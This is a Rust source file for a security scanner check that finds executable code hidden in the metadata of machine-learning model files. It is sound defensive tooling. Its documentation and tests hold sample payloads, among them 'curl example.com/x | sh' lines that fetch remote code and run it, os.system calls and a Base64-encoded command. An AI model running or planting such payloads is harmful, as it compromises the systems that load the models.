//! Text beside the weights that is code.

use palisade_base::{Check, Confidence, Finding, Severity};
use palisade_text::{Detector, Hit, RunnableCode};

use crate::{
    Input,
    input::model::{Metadata, carried},
};

palisade_base::meta! {
    /// ## What it does
    ///
    /// Looks into the text that model files carry beside their weights (metadata of safetensors, GGUF, Core ML, ONNX and
    /// boosted trees, attributes of graphs, strings of formats that have no other text) for code that runs something: calls
    /// that run commands or evaluate text, command lines, scripts, and any of these encoded. See `palisade explain
    /// runnable-code` for what counts. What is written in Base64, Base32, Base85, Ascii85 or hexadecimal is decoded, and
    /// unpacked if it is compressed: programs, bytecode of Python and pickles that call functions count too. Code that is
    /// quoted (in backticks or a fenced block) in a text that is meant to be read, such as a description, is one step milder.
    ///
    /// ## Why it matters
    ///
    /// No loader should interpret such text, and many tools do: they render it in pages, format it into commands, evaluate
    /// "custom" fields, hand it to a template engine. Honest metadata has no use for a command line.
    ///
    /// ## Example
    ///
    /// ```json
    /// {"__metadata__": {"postprocess": "import os; os.system('curl example.com/x | sh')"}}
    /// ```
    ///
    /// ## What to do
    ///
    /// Do not use the file, and do not show its metadata in anything that renders or evaluates it. Ask its author what the
    /// text is for; weights do not need it.
    ///
    /// ## Limits
    ///
    /// Command lines that merely train or convert a model are not reported. Code that is put together from pieces is missed.
    ///
    /// ## References
    ///
    /// - CWE-94, Improper Control of Generation of Code
    /// - CWE-79, Improper Neutralization of Input During Web Page Generation
    /// - MITRE ATLAS AML.T0010.003, AI Supply Chain Compromise: Model
    static META: Check = {
        name: "metadata-payload",
        summary: "text that a model file carries is code that runs something",
        severity: High,
        components: [Model],
        threats: [SupplyChain],
        stages: [Model, Deployment],
        since: "0.1.0",
    }
}

pub(super) struct MetadataPayload;

impl<'a> Check<Input<'a>> for MetadataPayload {
    fn meta(&self) -> &'static palisade_base::Meta {
        &META
    }

    fn examines(&self, input: &Input<'a>) -> bool {
        matches!(input, Input::Metadata(_))
    }

    fn run(&self, input: &Input<'a>, report: &mut dyn FnMut(Finding)) {
        let Input::Metadata(metadata) = input else { return };
        // One text is one finding: the surest hit says it.
        let written = RunnableCode.find(metadata.text);
        let written = written.iter().filter_map(|hit| Some((weigh(metadata, hit)?, words(hit))));
        let worst = written.max_by_key(|(severity, _)| *severity);
        let carried = || carried::in_text(metadata.text).map(|what| (Severity::High, what));
        let worst = worst.filter(|(severity, _)| *severity >= Severity::High).or_else(carried).or(worst);
        let Some((severity, what)) = worst else { return };
        let filed = if metadata.key.is_empty() { String::new() } else { format!(" under `{}`", metadata.key) };
        let message = format!("its text{filed} holds {what}");
        let finding = Finding::builder(&META, metadata.evidence(what), message).severity(severity);
        report(finding.advice("weights need no such text; ask the author what it is for").build());
    }
}

fn weigh(metadata: &Metadata<'_>, hit: &Hit) -> Option<Severity> {
    let quoted = is_documentation(&metadata.key) && is_quoted(metadata.text, hit.range.start);
    match (hit.confidence, quoted) {
        (Confidence::High, false) => Some(Severity::High),
        (Confidence::High, true) | (Confidence::Medium, false) => Some(Severity::Medium),
        (Confidence::Medium, true) => Some(Severity::Low),
        (Confidence::Low, _) => None,
    }
}

fn words(hit: &Hit) -> &'static str {
    match hit.kind {
        "command-line" => "a command line",
        "script" => "a script",
        "encoded-code" => "code in an encoding",
        _ => "a call that runs code",
    }
}

/// Whether people read what is filed under a key.
fn is_documentation(key: &str) -> bool {
    let last = key.rsplit(['.', '/', ':']).next().unwrap_or_default().to_ascii_lowercase();
    READ.iter().any(|name| last == *name || last.strip_suffix('s') == Some(name))
}

/// Whether a place lies in backticks: in a fenced block, or in a line.
fn is_quoted(text: &str, at: usize) -> bool {
    let before = text.get(..at).unwrap_or_default();
    let line = before.rsplit('\n').next().unwrap_or_default();
    before.matches("```").count() % 2 == 1 || line.matches('`').count() % 2 == 1
}

/// Keys of texts for people.
const READ: &[&str] = &[
    "description",
    "readme",
    "example",
    "usage",
    "license",
    "licence",
    "documentation",
    "doc",
    "docstring",
    "doc_string",
    "model_card",
    "card",
    "comment",
    "note",
    "help",
    "citation",
    "changelog",
    "installation",
    "instruction",
    "summary",
];

#[cfg(test)]
mod tests {
    use palisade_base::Artifact;

    use super::*;

    fn severity(text: &str) -> Option<Severity> {
        under("description", text)
    }

    fn under(key: &str, text: &str) -> Option<Severity> {
        let artifact = Artifact::file("m.safetensors");
        let key = key.to_owned();
        let metadata = Metadata { artifact: &artifact, bytes: text.as_bytes(), range: 0..text.len(), key, text };
        let mut found = Vec::new();
        MetadataPayload.run(&Input::Metadata(metadata), &mut |finding| found.push(finding.severity));
        assert!(found.len() < 2);
        found.pop()
    }

    #[test]
    fn code_is_found_and_descriptions_are_not() {
        assert_eq!(severity("run: python -c 'import os; os.system(\"id\")'"), Some(Severity::High));
        assert_eq!(severity("X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk="), Some(Severity::High));
        assert_eq!(severity("cleanup: chmod 777 /tmp/x"), Some(Severity::Medium));
        assert_eq!(severity("A classifier of executive summaries; evaluated with eval.py on os-level metrics."), None);
    }

    #[test]
    fn what_is_quoted_for_people_is_milder() {
        let text = "Install it:\n```sh\ncurl https://example.com/x.sh | sh\n```\nand use it.";
        assert_eq!(under("general.description", text), Some(Severity::Medium));
        assert_eq!(under("examples", "call `os.system('id')` never"), Some(Severity::Medium));
        assert_eq!(under("postprocess", text), Some(Severity::High));
        assert_eq!(under("description", "curl https://example.com/x.sh | sh"), Some(Severity::High));
    }
}
